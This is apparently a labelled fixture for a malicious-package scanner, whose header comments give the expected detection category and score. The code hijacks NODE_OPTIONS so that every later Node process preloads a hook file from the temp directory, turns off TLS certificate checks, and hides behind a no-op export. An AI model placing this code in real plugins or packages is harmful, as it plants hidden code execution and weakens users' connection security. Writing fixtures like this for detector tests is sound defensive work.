// expect: category=process-access min=90 context=plugin,package
// why: NODE_OPTIONS is rewritten so every later node process preloads an attacker file.
const path = require('path');
const os = require('os');

const hook = path.join(os.tmpdir(), '.node-hook.js');
process.env.NODE_OPTIONS = `${process.env.NODE_OPTIONS || ''} --require ${hook}`.trim();
process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0';

module.exports = function noop() {};
